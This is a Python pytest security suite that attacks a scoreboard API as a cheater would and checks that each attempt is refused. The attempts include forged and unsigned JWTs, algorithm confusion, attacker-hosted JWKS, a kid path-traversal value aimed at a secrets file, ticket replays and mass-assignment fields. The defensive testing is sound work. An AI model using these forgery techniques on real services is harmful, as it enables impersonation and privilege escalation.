"""The attack suite: the service attacked the way a cheater would attack it.

Every test plays one attack and asserts three things: the refusal's HTTP status (or the
WebSocket close code), its stable problem ``code``, and that no score changed. SECURITY.md
maps each threat to the code that stops it and to the test here (or elsewhere) that proves it.

Most attacks run in-process on every backend of tests/conftest.py (SQLite, PostgreSQL, and
PostgreSQL with Redis), through the ``api`` fixture or ``app_with`` for an app with other
settings. Attacks that need real sockets, real concurrency or proxy headers run against
``scoreboard serve`` processes, some in both shapes (``shape``). A test marked
``xfail(strict=True)`` is an attack that currently succeeds: its reason names the weakness
and the fix.
"""

from __future__ import annotations

import asyncio
import base64
import hashlib
import hmac
import json
import re
import threading
import time
import uuid
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import AbstractAsyncContextManager, asynccontextmanager, suppress
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import jwt
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from jwt.algorithms import RSAAlgorithm
from litestar import Litestar
from litestar.routes import HTTPRoute
from litestar.testing import AsyncTestClient
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncEngine
from websockets.asyncio.client import ClientConnection, connect
from websockets.exceptions import ConnectionClosed

from scoreboard.app import create_app
from scoreboard.database import create_engine
from scoreboard.keys import SigningKey
from scoreboard.tables import score_updates, user_scores
from tests.conftest import Backend
from tests.helpers import (
    ACTION_SECRET,
    JWT_SECRET,
    USER_SCOPES,
    Api,
    bearer,
    forge_ticket,
    make_token,
    new_user,
    now_iso,
    on_global,
    settings_env,
)
from tests.live.wsclient import closed_with, next_event, open_ws
from tests.postgres import truncate
from tests.server import ServerProcess

PROBLEM_JSON = "application/problem+json"
UPDATE = "/api/scores/update"
ACTIONS = "/api/actions"
ADMIN_ID = "admin-root"
ISSUER = "https://idp.example.com/"
AUDIENCE = "scoreboard-api"
ZERO_UUID = "00000000-0000-0000-0000-000000000000"

Board = list[dict[str, Any]]
AppFactory = Callable[..., AbstractAsyncContextManager[Api]]
StartServer = Callable[..., ServerProcess]


# =========================================================================== helpers


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def unb64(segment: str) -> bytes:
    return base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4))


def claims_of(token: str) -> dict[str, Any]:
    claims: dict[str, Any] = json.loads(unb64(token.split(".")[1]))
    return claims


def tamper(token: str, **changes: Any) -> str:
    """Rewrite claims in the payload, keeping the original header and signature."""
    header, _, signature = token.split(".")
    claims = {**claims_of(token), **changes}
    return f"{header}.{b64(json.dumps(claims, separators=(',', ':')).encode())}.{signature}"


def hs256(header: dict[str, Any], claims: dict[str, Any], key: bytes) -> str:
    """HMAC-SHA256 by hand, so that no library safeguard stands between us and the server."""
    signing_input = f"{b64(json.dumps(header).encode())}.{b64(json.dumps(claims).encode())}"
    signature = hmac.new(key, signing_input.encode(), hashlib.sha256).digest()
    return f"{signing_input}.{b64(signature)}"


def unsigned(header: dict[str, Any], claims: dict[str, Any]) -> str:
    return f"{b64(json.dumps(header).encode())}.{b64(json.dumps(claims).encode())}."


def token_claims(user: str | None, *, scopes: tuple[str, ...] = USER_SCOPES) -> dict[str, Any]:
    now = int(time.time())
    claims: dict[str, Any] = {"exp": now + 600, "iat": now, "scope": " ".join(scopes)}
    if user is not None:
        claims["sub"] = user
    return claims


def fresh_token(user: str, **kwargs: Any) -> str:
    """A token of its own (unique jti), as a client juggling many sessions would hold."""
    return make_token(user, jti=uuid.uuid4().hex, **kwargs)


def admin_token() -> str:
    return make_token(ADMIN_ID, scopes=("scores:admin", "leaderboard:read"))


def service_kid() -> str:
    return SigningKey.from_secret(ACTION_SECRET.encode()).kid


def ago(seconds: float) -> datetime:
    return datetime.now(UTC) - timedelta(seconds=seconds)


def assert_problem(response: httpx.Response, status: int, code: str) -> dict[str, Any]:
    assert response.status_code == status, response.text
    assert response.headers["content-type"] == PROBLEM_JSON, response.headers
    body: dict[str, Any] = response.json()
    assert body["code"] == code, body
    assert body["status"] == status
    assert body["type"] == f"urn:scoreboard:problem:{code}"
    assert "Traceback" not in response.text
    return body


async def assert_refused(
    api: Api, response: httpx.Response, status: int, code: str, before: Board
) -> dict[str, Any]:
    """The attack got the expected problem, and the leaderboard is exactly as before."""
    body = assert_problem(response, status, code)
    assert await api.leaderboard() == before, "a refused attack changed the leaderboard"
    return body


async def post_update(
    api: Api,
    action_id: str,
    token: str,
    *,
    timestamp: str | None = None,
    headers: dict[str, str] | None = None,
) -> httpx.Response:
    return await api.client.post(
        UPDATE,
        json={"actionId": action_id, "timestamp": timestamp or now_iso()},
        headers={**bearer(token), **(headers or {})},
    )


async def flags_of(api: Api, user: str, rule: str) -> list[dict[str, Any]]:
    response = await api.client.get(
        "/api/admin/flags",
        params={"userId": user, "rule": rule, "status": "all"},
        headers=bearer(admin_token()),
    )
    assert response.status_code == 200, response.text
    flags: list[dict[str, Any]] = response.json()["flags"]
    return flags


async def history_of(api: Api, user: str) -> dict[str, Any]:
    response = await api.client.get(
        f"/api/admin/users/{quote(user, safe='')}/history", headers=bearer(admin_token())
    )
    assert response.status_code == 200, response.text
    body: dict[str, Any] = response.json()
    return body


async def stored(engine: AsyncEngine, user: str) -> tuple[int | None, list[tuple[int, str | None]]]:
    """Straight from the database: the user's score and their audit rows (points, client IP)."""
    async with engine.connect() as conn:
        score = (
            await conn.execute(select(user_scores.c.score).where(user_scores.c.user_id == user))
        ).scalar_one_or_none()
        rows = await conn.execute(
            select(score_updates.c.score_change, score_updates.c.client_ip).where(
                score_updates.c.user_id == user
            )
        )
        audit = [(int(points), None if ip is None else str(ip)) for points, ip in rows]
    return (None if score is None else int(score)), audit


async def stored_at(
    database_url: str, user: str
) -> tuple[int | None, list[tuple[int, str | None]]]:
    engine = create_engine(database_url)
    try:
        return await stored(engine, user)
    finally:
        await engine.dispose()


def database_of(api: Api) -> str:
    """The app's database URL (its engine lives on the test client's own event loop)."""
    app: Litestar = api.client.app  # type: ignore[attr-defined]
    url: str = app.state.settings.resolved_database_url
    return url


def real_client(server: ServerProcess) -> httpx.AsyncClient:
    return httpx.AsyncClient(
        base_url=server.url,
        timeout=30,
        limits=httpx.Limits(max_connections=100, max_keepalive_connections=100),
    )


def clean_log(server: ServerProcess) -> str:
    log = server.log_path.read_text()
    assert "Traceback" not in log, log
    assert "unhandled_error" not in log, log
    return log


# =========================================================================== fixtures


@pytest.fixture
def app_with(backend: Backend, tmp_path: Path) -> AppFactory:
    """An in-process app on this test's backend (SQLite, PostgreSQL, PostgreSQL + Redis) with
    settings overrides; ``tokens`` seeds the Api's token cache (for apps that do not verify
    the default HS256 test tokens)."""

    @asynccontextmanager
    async def open_app(
        tokens: dict[str, str] | None = None, **overrides: Any
    ) -> AsyncIterator[Api]:
        settings = backend.settings(tmp_path, **overrides)
        async with AsyncTestClient(app=create_app(settings)) as client:
            yield Api(client, dict(tokens or {}))

    return open_app


@pytest.fixture
def sqlite_url(tmp_path: Path) -> str:
    return f"sqlite+aiosqlite:///{tmp_path / 'scoreboard.db'}"


@pytest.fixture
def start_server(tmp_path: Path, sqlite_url: str) -> Iterator[StartServer]:
    """Real `scoreboard serve` processes (SQLite unless a database URL is given)."""
    started: list[ServerProcess] = []

    def start(database_url: str | None = None, **env: str) -> ServerProcess:
        server = ServerProcess(
            settings_env(database_url or sqlite_url, tmp_path, **env),
            tmp_path / f"server-{len(started)}.log",
        )
        started.append(server)
        return server.start()

    yield start
    for server in started:
        server.stop()


@dataclass(frozen=True)
class Shape:
    """How a real server runs: embedded (SQLite, in-process limits and tickets) or production
    (PostgreSQL, with ranking, fan-out, limits and WebSocket tickets in Redis)."""

    name: str
    database_url: str
    env: dict[str, str]


@pytest.fixture(params=["embedded", "production"])
def shape(request: pytest.FixtureRequest, sqlite_url: str) -> Shape:
    if request.param == "embedded":
        return Shape("embedded", sqlite_url, {})
    postgres: str = request.getfixturevalue("postgres_url")
    asyncio.run(truncate(postgres))  # the board starts empty, as in the embedded shape
    redis_url: str = request.getfixturevalue("redis_url")
    prefix: str = request.getfixturevalue("redis_prefix")
    env = {"SCOREBOARD_REDIS_URL": redis_url, "SCOREBOARD_REDIS_PREFIX": prefix}
    return Shape("production", postgres, env)


@pytest.fixture(scope="module")
def idp_key() -> rsa.RSAPrivateKey:
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


@pytest.fixture(scope="module")
def attacker_key() -> rsa.RSAPrivateKey:
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def public_pem(key: rsa.RSAPrivateKey) -> str:
    return (
        key.public_key()
        .public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
        .decode()
    )


def public_jwk(key: rsa.RSAPrivateKey, kid: str) -> dict[str, Any]:
    jwk: dict[str, Any] = RSAAlgorithm.to_jwk(key.public_key(), as_dict=True)
    return {**jwk, "kid": kid, "use": "sig", "alg": "RS256"}


def rs256_token(
    key: rsa.RSAPrivateKey,
    user: str,
    *,
    kid: str | None = None,
    scopes: tuple[str, ...] = USER_SCOPES,
    headers: dict[str, Any] | None = None,
) -> str:
    claims = {**token_claims(user, scopes=scopes), "jti": uuid.uuid4().hex}
    all_headers = {**({"kid": kid} if kid else {}), **(headers or {})}
    return jwt.encode(claims, key, "RS256", headers=all_headers or None)


class KeyServer:
    """A JWKS endpoint on 127.0.0.1 that counts how often it is asked."""

    def __init__(self, keys: list[dict[str, Any]]) -> None:
        self.requests = 0
        lock = threading.Lock()
        body = json.dumps({"keys": keys}).encode()
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                with lock:
                    outer.requests += 1
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self._thread.start()
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}/.well-known/jwks.json"

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join(timeout=5)


@pytest.fixture
def key_servers(
    idp_key: rsa.RSAPrivateKey, attacker_key: rsa.RSAPrivateKey
) -> Iterator[tuple[KeyServer, KeyServer]]:
    """The identity provider's JWKS, and one the attacker hosts with their own key."""
    idp = KeyServer([public_jwk(idp_key, "idp-1")])
    evil = KeyServer([public_jwk(attacker_key, "evil-1")])
    try:
        yield idp, evil
    finally:
        idp.close()
        evil.close()


# =========================================================================== JWT


@pytest.mark.parametrize("alg", ["none", "None", "NONE", "nOnE"])
async def test_an_unsigned_alg_none_token_cannot_steal_the_victims_ticket(
    api: Api, alg: str
) -> None:
    """The attacker intercepted the victim's ticket and signs nothing, claiming to be them."""
    victim = new_user()
    ticket = await api.issue(victim)
    before = await api.leaderboard()
    claims = token_claims(victim, scopes=(*USER_SCOPES, "scores:admin"))
    forged = unsigned({"alg": alg, "typ": "JWT"}, claims)
    response = await post_update(api, ticket, forged)
    await assert_refused(api, response, 401, "invalid_token", before)
    assert response.headers["www-authenticate"].startswith("Bearer")
    # Nothing was burnt: the victim completes their own ticket.
    assert (await api.complete(victim, ticket)).status_code == 200


@pytest.mark.parametrize("encoding", ["pem", "pem-stripped", "der", "pkcs1-pem"])
async def test_an_hs256_token_keyed_with_the_rs256_public_key_cannot_score(
    app_with: AppFactory, idp_key: rsa.RSAPrivateKey, encoding: str
) -> None:
    """Algorithm confusion: the public key is public, so an attacker HMACs with it and
    hopes the server verifies HS256 with the same bytes."""
    pem = public_pem(idp_key)
    public = idp_key.public_key()
    key_bytes = {
        "pem": pem.encode(),
        "pem-stripped": pem.strip().encode(),
        "der": public.public_bytes(
            serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
        ),
        "pkcs1-pem": public.public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.PKCS1
        ),
    }[encoding]
    reader = rs256_token(idp_key, "reader")
    async with app_with(
        tokens={"reader": reader}, jwt_secret=None, jwt_public_key=pem, jwt_algorithm="RS256"
    ) as api:
        attacker = new_user()
        api.tokens[attacker] = rs256_token(idp_key, attacker)  # the control: real RS256 works
        ticket = await api.issue(attacker)
        before = await api.leaderboard()
        forged = hs256({"alg": "HS256", "typ": "JWT"}, token_claims(attacker), key_bytes)
        response = await post_update(api, ticket, forged)
        await assert_refused(api, response, 401, "invalid_token", before)


JWKS_ATTACKS = [
    "unknown-kid",
    "jku-pointing-at-the-attackers-jwks",
    "embedded-jwk",
    "known-kid-signed-by-the-attacker",
    "hs256-keyed-with-the-published-jwk",
]


@pytest.mark.parametrize("attack", JWKS_ATTACKS)
async def test_a_token_signed_by_a_key_the_idp_never_published_cannot_score_or_flood_it(
    app_with: AppFactory,
    idp_key: rsa.RSAPrivateKey,
    attacker_key: rsa.RSAPrivateKey,
    key_servers: tuple[KeyServer, KeyServer],
    attack: str,
) -> None:
    """Ten tries per attack, each with a fresh kid where the attack allows one: refused, the
    IdP's JWKS is refetched at most once (cool-down), the attacker's JWKS never."""
    idp, evil = key_servers
    reader = rs256_token(idp_key, "reader", kid="idp-1")
    async with app_with(
        tokens={"reader": reader},
        jwt_secret=None,
        jwks_url=idp.url,
        jwt_algorithm="RS256",
        jwks_unknown_kid_cooldown=60,
    ) as api:
        before = await api.leaderboard()  # the control: the IdP's token works (1 fetch)
        attacker = new_user()
        evil_jwk = public_jwk(attacker_key, "evil-1")
        for i in range(10):
            if attack == "unknown-kid":
                token = rs256_token(attacker_key, attacker, kid=f"evil-{i}")
            elif attack == "jku-pointing-at-the-attackers-jwks":
                token = rs256_token(attacker_key, attacker, kid="evil-1", headers={"jku": evil.url})
            elif attack == "embedded-jwk":
                token = rs256_token(
                    attacker_key, attacker, kid=f"evil-{i}", headers={"jwk": evil_jwk}
                )
            elif attack == "known-kid-signed-by-the-attacker":
                token = rs256_token(attacker_key, attacker, kid="idp-1")
            else:
                header = {"alg": "HS256", "typ": "JWT", "kid": "idp-1"}
                jwk_text = json.dumps(public_jwk(idp_key, "idp-1")).encode()
                token = hs256(header, token_claims(attacker), jwk_text)
            response = await post_update(api, forge_ticket(attacker), token)
            assert_problem(response, 401, "invalid_token")
        assert await api.leaderboard() == before
    assert 1 <= idp.requests <= 2, idp.requests
    assert evil.requests == 0


async def test_a_token_tampered_to_grant_itself_write_and_admin_is_refused(api: Api) -> None:
    """A read-only token with its payload rewritten (scope, then sub) and the signature kept."""
    attacker, victim = new_user(), new_user()
    await api.score(victim)
    before = await api.leaderboard()
    reader = make_token(attacker, scopes=("leaderboard:read",))
    escalated = tamper(reader, scope="leaderboard:read scores:write scores:admin")
    reset = await api.client.post(
        f"/api/admin/users/{victim}/reset",
        json={"reason": "i am admin now"},
        headers=bearer(escalated),
    )
    await assert_refused(api, reset, 401, "invalid_token", before)
    issue = await api.client.post(ACTIONS, json={}, headers=bearer(escalated))
    await assert_refused(api, issue, 401, "invalid_token", before)
    impersonating = tamper(escalated, sub=victim)
    response = await post_update(api, forge_ticket(victim), impersonating)
    await assert_refused(api, response, 401, "invalid_token", before)
    # The untouched token is still what it was: read-only, and valid.
    assert (await api.client.get("/api/leaderboard", headers=bearer(reader))).status_code == 200


async def test_a_token_stops_working_the_second_it_expires_even_though_it_was_cached(
    app_with: AppFactory,
) -> None:
    """Verified tokens are cached; an attacker must not be able to ride the cache past exp."""
    async with app_with(jwt_leeway=0) as api:
        user = new_user()
        token = make_token(user, ttl=2)
        api.tokens[user] = token
        ticket = await api.issue(user)  # verified, and now cached
        before = await api.leaderboard()
        await asyncio.sleep(max(0.0, claims_of(token)["exp"] - time.time()) + 0.2)
        response = await post_update(api, ticket, token)
        body = await assert_refused(api, response, 401, "invalid_token", before)
        assert "expired" in body["detail"]


async def test_a_never_expiring_token_cannot_score_or_administer(api: Api) -> None:
    """No exp: a token that would work forever once stolen. Signed with the right secret."""
    attacker = new_user()
    before = await api.leaderboard()
    forever = make_token(attacker, scopes=(*USER_SCOPES, "scores:admin"), exp=None)
    assert "exp" not in claims_of(forever)
    response = await post_update(api, forge_ticket(attacker), forever)
    body = await assert_refused(api, response, 401, "invalid_token", before)
    assert "exp" in body["detail"]
    flags = await api.client.get("/api/admin/flags", headers=bearer(forever))
    await assert_refused(api, flags, 401, "invalid_token", before)


async def test_a_token_without_sub_cannot_name_its_user_in_other_claims(api: Api) -> None:
    """No sub, but user_id/uid/preferred_username naming the victim whose ticket it holds."""
    victim = new_user()
    ticket = await api.issue(victim)
    before = await api.leaderboard()
    claims = {**token_claims(None), "user_id": victim, "uid": victim}
    subless = jwt.encode({**claims, "preferred_username": victim}, JWT_SECRET, "HS256")
    assert "sub" not in claims_of(subless)
    response = await post_update(api, ticket, subless)
    body = await assert_refused(api, response, 401, "invalid_token", before)
    assert "sub" in body["detail"]
    issue = await api.client.post(ACTIONS, json={}, headers=bearer(subless))
    await assert_refused(api, issue, 401, "invalid_token", before)


@asynccontextmanager
async def _iss_aud_app(app_with: AppFactory) -> AsyncIterator[Api]:
    reader = make_token("reader", iss=ISSUER, aud=AUDIENCE)
    async with app_with(tokens={"reader": reader}, jwt_issuer=ISSUER, jwt_audience=AUDIENCE) as api:
        yield api


@pytest.mark.parametrize(
    "issuer",
    [
        pytest.param("https://evil.example.com/", id="foreign"),
        pytest.param(ISSUER.rstrip("/"), id="near-miss"),
        pytest.param(ISSUER + "evil/", id="suffixed"),
        pytest.param(None, id="missing"),
    ],
)
async def test_a_token_from_a_foreign_issuer_cannot_score(
    app_with: AppFactory, issuer: str | None
) -> None:
    """The shared HS256 secret leaked to another issuer: its tokens must still be refused."""
    async with _iss_aud_app(app_with) as api:
        attacker = new_user()
        # The control: the right iss/aud scores.
        api.tokens["control"] = make_token("control", iss=ISSUER, aud=AUDIENCE)
        assert (await api.complete("control", forge_ticket("control"))).status_code == 200
        before = await api.leaderboard()
        token = make_token(attacker, iss=issuer, aud=AUDIENCE)
        response = await post_update(api, forge_ticket(attacker), token)
        await assert_refused(api, response, 401, "invalid_token", before)


@pytest.mark.parametrize(
    "audience",
    [
        pytest.param("billing-api", id="other-api"),
        pytest.param(["billing-api", "reports-api"], id="other-apis"),
        pytest.param(AUDIENCE.upper(), id="case"),
        pytest.param("scoreboard:action", id="the-ticket-audience"),
        pytest.param(None, id="missing"),
    ],
)
async def test_a_token_for_the_wrong_audience_cannot_score(
    app_with: AppFactory, audience: str | list[str] | None
) -> None:
    async with _iss_aud_app(app_with) as api:
        attacker = new_user()
        before = await api.leaderboard()
        token = make_token(attacker, iss=ISSUER, aud=audience)
        response = await post_update(api, forge_ticket(attacker), token)
        await assert_refused(api, response, 401, "invalid_token", before)


async def test_a_token_minted_for_another_service_of_the_same_idp_cannot_score(api: Api) -> None:
    """This deployment configures no audience; a token the same IdP (same secret) minted for
    the billing API carries aud=billing-api and must not be accepted here."""
    attacker = new_user()
    before = await api.leaderboard()
    billing = make_token(attacker, aud="billing-api", scopes=(*USER_SCOPES, "scores:admin"))
    response = await post_update(api, forge_ticket(attacker), billing)
    body = await assert_refused(api, response, 401, "invalid_token", before)
    assert "audience" in body["detail"]
    issue = await api.client.post(ACTIONS, json={}, headers=bearer(billing))
    await assert_refused(api, issue, 401, "invalid_token", before)


async def test_the_dev_token_endpoint_mints_nothing_that_can_score(app_with: AppFactory) -> None:
    """/dev/token hands out tokens without a login. It exists only with the generated dev
    secret, and what it mints is read-only."""
    attacker = new_user()
    async with app_with(jwt_secret=None) as api:
        minted = await api.client.get("/dev/token", params={"user": attacker})
        assert minted.status_code == 200, minted.text
        token = minted.json()["token"]
        api.tokens["reader"] = token
        before = await api.leaderboard()
        issue = await api.client.post(ACTIONS, json={}, headers=bearer(token))
        body = await assert_refused(api, issue, 403, "insufficient_scope", before)
        assert body["requiredScope"] == "scores:write"
        update = await post_update(api, forge_ticket(attacker), token)
        await assert_refused(api, update, 403, "insufficient_scope", before)
    async with app_with() as api:  # a configured secret: real users' tokens, no minting
        before = await api.leaderboard()
        minted = await api.client.get("/dev/token", params={"user": attacker})
        await assert_refused(api, minted, 404, "not_found", before)


# =========================================================================== action tickets

FORGERIES: dict[str, Callable[[dict[str, Any]], str]] = {
    "kid-used-as-the-key": lambda c: hs256(
        {"alg": "HS256", "typ": "JWT", "kid": service_kid()}, c, service_kid().encode()
    ),
    "empty-key": lambda c: hs256({"alg": "HS256", "typ": "JWT", "kid": service_kid()}, c, b""),
    "guessable-key": lambda c: hs256(
        {"alg": "HS256", "typ": "JWT", "kid": service_kid()}, c, b"secret"
    ),
    "kid-path-traversal": lambda c: hs256(
        {"alg": "HS256", "typ": "JWT", "kid": "../../scoreboard-data/dev-secrets.json"}, c, b""
    ),
    "no-kid-signed-with-the-jwt-secret": lambda c: hs256(
        {"alg": "HS256", "typ": "JWT"}, c, JWT_SECRET.encode()
    ),
    "alg-none-under-the-service-kid": lambda c: unsigned(
        {"alg": "none", "typ": "JWT", "kid": service_kid()}, c
    ),
}


@pytest.mark.parametrize("forgery", list(FORGERIES))
async def test_a_forged_million_point_ticket_is_refused_and_flagged(api: Api, forgery: str) -> None:
    attacker = new_user()
    claims = {**claims_of(await api.issue(attacker)), "pts": 1_000_000, "typ": "big"}
    before = await api.leaderboard()
    response = await post_update(api, FORGERIES[forgery](claims), api.token(attacker))
    await assert_refused(api, response, 422, "invalid_action", before)
    assert [f["rule"] for f in await flags_of(api, attacker, "forged_ticket")] == ["forged_ticket"]


def _lookalikes(victim: str) -> dict[str, str]:
    return {
        "uppercase": victim.upper(),
        "cyrillic-first-letter": "\u0440" + victim[1:],  # Cyrillic er looks like a Latin p
        "fullwidth": "".join(chr(ord(c) + 0xFEE0) for c in victim),
        "trailing-dot": victim + ".",
    }


@pytest.mark.parametrize(
    "lookalike", ["uppercase", "cyrillic-first-letter", "fullwidth", "trailing-dot"]
)
async def test_a_stolen_ticket_cannot_be_completed_by_a_lookalike_user_id(
    api: Api, lookalike: str
) -> None:
    victim = f"player{uuid.uuid4().hex[:10]}"
    thief = _lookalikes(victim)[lookalike]
    ticket = await api.issue(victim)
    before = await api.leaderboard()
    response = await post_update(api, ticket, make_token(thief))
    await assert_refused(api, response, 403, "action_not_owned", before)
    completed = await api.complete(victim, ticket)
    assert completed.status_code == 200, completed.text


async def test_a_ticket_rewritten_into_a_bigger_action_is_refused_and_flagged(api: Api) -> None:
    """An `instant` ticket (10 points) edited consistently into a `big` one (100 points)."""
    attacker = new_user()
    genuine = await api.issue(attacker)
    assert claims_of(genuine)["pts"] == 10
    before = await api.leaderboard()
    bigger = tamper(genuine, typ="big", pts=100)
    response = await post_update(api, bigger, api.token(attacker))
    await assert_refused(api, response, 422, "invalid_action", before)
    assert len(await flags_of(api, attacker, "forged_ticket")) == 1
    ok = await api.complete(attacker, genuine)
    assert ok.json() == {"success": True, "newScore": 10, "rank": 1, **on_global(10, 1)}


async def test_backdating_the_timestamp_does_not_revive_an_expired_ticket(api: Api) -> None:
    """Issued 120 s ago with a 60 s life; the client claims it finished 30 s after issue."""
    attacker = new_user()
    issued = ago(120)
    ticket = forge_ticket(attacker, issued_at=issued, ttl=60)
    before = await api.leaderboard()
    in_window = (issued + timedelta(seconds=30)).isoformat()
    response = await post_update(api, ticket, api.token(attacker), timestamp=in_window)
    await assert_refused(api, response, 422, "action_expired", before)


async def test_a_client_clock_pushed_forward_cannot_complete_an_action_early(api: Api) -> None:
    """A 2 s minimum duration; the client says it is already 2.5 s later (within the skew and
    inside the ticket's window). Server time decides, and the refusal burns nothing."""
    attacker = new_user()
    ticket = forge_ticket(attacker, min_duration=2, ttl=60)
    before = await api.leaderboard()
    response = await post_update(api, ticket, api.token(attacker), timestamp=now_iso(2.5))
    await assert_refused(api, response, 422, "action_not_ready", before)
    await asyncio.sleep(2.2)
    ok = await post_update(api, ticket, api.token(attacker))
    assert ok.status_code == 200, ok.text
    assert ok.json()["newScore"] == 10


async def test_sequential_replays_with_new_tokens_and_timestamps_are_refused_and_flagged(
    api: Api,
) -> None:
    cheater = new_user()
    ticket = await api.issue(cheater)
    assert (await api.complete(cheater, ticket)).status_code == 200
    before = await api.leaderboard()
    attempts = [
        (api.token(cheater), now_iso()),
        (fresh_token(cheater), now_iso()),
        (fresh_token(cheater, username="someone new"), now_iso(1)),
        (fresh_token(cheater, scopes=(*USER_SCOPES, "actions:issue")), now_iso(2)),
        (api.token(cheater), now_iso(3)),
    ]
    for token, timestamp in attempts:
        response = await post_update(api, ticket, token, timestamp=timestamp)
        await assert_refused(api, response, 409, "action_already_used", before)
    assert before == [{"userId": cheater, "username": f"name-{cheater}", "score": 10, "rank": 1}]
    assert len(await flags_of(api, cheater, "ticket_replay")) == 1


async def test_a_ticket_replayed_on_another_instance_and_after_a_restart_is_refused(
    app_with: AppFactory,
) -> None:
    """Two instances on one database, then a fresh process: the UNIQUE action id holds."""
    cheater = new_user()
    async with app_with() as first, app_with() as second:
        ticket = await first.issue(cheater)
        assert (await first.complete(cheater, ticket)).status_code == 200
        before = await first.leaderboard()
        replay = await post_update(second, ticket, first.token(cheater))
        assert_problem(replay, 409, "action_already_used")
        assert await first.leaderboard() == before
    async with app_with() as restarted:
        replay = await post_update(restarted, ticket, restarted.token(cheater))
        await assert_refused(restarted, replay, 409, "action_already_used", before)
        assert [(e["userId"], e["score"]) for e in before] == [(cheater, 10)]


@pytest.mark.slow
async def test_fifty_parallel_replays_from_fifty_sessions_and_ten_thieves_score_once(
    start_server: StartServer, shape: Shape
) -> None:
    """One ticket, fired at once over separate connections: 50 times by its owner (each with
    a session token of its own and its own timestamp) and 10 times by thieves."""
    server = start_server(shape.database_url, **shape.env)
    owner, thieves = new_user(), [new_user() for _ in range(10)]
    async with real_client(server) as client:
        api = Api(client)
        ticket = await api.issue(owner)

        def attempt(user: str, i: int) -> Any:
            body = {"actionId": ticket, "timestamp": now_iso(i * 0.05)}
            return client.post(UPDATE, json=body, headers=bearer(fresh_token(user)))

        responses = await asyncio.gather(
            *(attempt(owner, i) for i in range(50)), *(attempt(t, 0) for t in thieves)
        )
        by_owner, by_thieves = responses[:50], responses[50:]
        # Exactly one scores. The rest are replays (409) - or, past the default blocking
        # velocity rule of 30 completions a minute, refused before the database (429).
        assert [r.status_code for r in by_owner].count(200) == 1
        for response in by_owner:
            if response.status_code == 409:
                assert_problem(response, 409, "action_already_used")
            elif response.status_code == 429:
                assert_problem(response, 429, "velocity_exceeded")
            else:
                assert response.status_code == 200
        for response in by_thieves:
            assert_problem(response, 403, "action_not_owned")
        assert [(e["userId"], e["score"]) for e in await api.leaderboard()] == [(owner, 10)]
    assert await stored_at(shape.database_url, owner) == (10, [(10, "127.0.0.1")])
    for thief in thieves:
        assert await stored_at(shape.database_url, thief) == (None, [])
    clean_log(server)


@pytest.mark.slow
async def test_parallel_replays_split_across_two_server_processes_score_once(
    start_server: StartServer, postgres_url: str
) -> None:
    first, second = start_server(postgres_url), start_server(postgres_url)
    owner = new_user()
    async with real_client(first) as a, real_client(second) as b:
        ticket = await Api(a).issue(owner)
        token = make_token(owner)
        body = {"actionId": ticket, "timestamp": now_iso()}
        responses = await asyncio.gather(
            *(client.post(UPDATE, json=body, headers=bearer(token)) for client in [a, b] * 25)
        )
    assert sorted(r.status_code for r in responses) == [200] + [409] * 49
    for response in responses:
        if response.status_code == 409:
            assert_problem(response, 409, "action_already_used")
    assert await stored_at(postgres_url, owner) == (10, [(10, "127.0.0.1")])
    clean_log(first)
    clean_log(second)


# =========================================================================== mass assignment


@pytest.mark.parametrize(
    "extra",
    [
        pytest.param({"score": 1_000_000}, id="score"),
        pytest.param({"points": 1_000_000}, id="points"),
        pytest.param({"pts": 1_000_000}, id="pts"),
        pytest.param({"userId": "RIVAL"}, id="userId"),
        pytest.param({"user_id": "RIVAL"}, id="user_id"),
        pytest.param({"type": "big"}, id="type"),
        pytest.param({"ticket": {"pts": 1_000_000}}, id="nested"),
    ],
)
async def test_client_chosen_points_or_owner_in_the_update_body_are_refused(
    api: Api, extra: dict[str, Any]
) -> None:
    """A genuine ticket plus fields that would decide the points or the beneficiary. The
    refusal burns nothing, names the field, and never echoes the value."""
    attacker, rival = new_user(), new_user()
    await api.score(rival)
    ticket = await api.issue(attacker)
    before = await api.leaderboard()
    body = {"actionId": ticket, "timestamp": now_iso(), **extra}
    body = {k: (rival if v == "RIVAL" else v) for k, v in body.items()}
    response = await api.client.post(UPDATE, json=body, headers=bearer(api.token(attacker)))
    problem = await assert_refused(api, response, 400, "validation_error", before)
    field = next(iter(extra))
    assert any(field in error["message"] for error in problem["errors"]), problem
    assert "1000000" not in response.text
    assert rival not in response.text
    ok = await api.complete(attacker, ticket)
    assert ok.json()["newScore"] == 10
    assert {e["userId"]: e["score"] for e in await api.leaderboard()} == {rival: 10, attacker: 10}


@pytest.mark.parametrize(
    ("field", "status", "code"),
    [
        pytest.param("userId", 403, "insufficient_scope", id="userId"),
        pytest.param("user_id", 400, "validation_error", id="user_id"),
        pytest.param("sub", 400, "validation_error", id="sub"),
        pytest.param("forUser", 400, "validation_error", id="forUser"),
    ],
)
async def test_a_player_cannot_mint_tickets_for_an_accomplice(
    api: Api, field: str, status: int, code: str
) -> None:
    """Only a backend holding actions:issue may name the ticket's user."""
    player, accomplice = new_user(), new_user()
    before = await api.leaderboard()
    response = await api.client.post(
        ACTIONS, json={"type": "big", field: accomplice}, headers=bearer(api.token(player))
    )
    body = await assert_refused(api, response, status, code, before)
    if code == "insufficient_scope":
        assert body["requiredScope"] == "actions:issue"


@pytest.mark.parametrize(
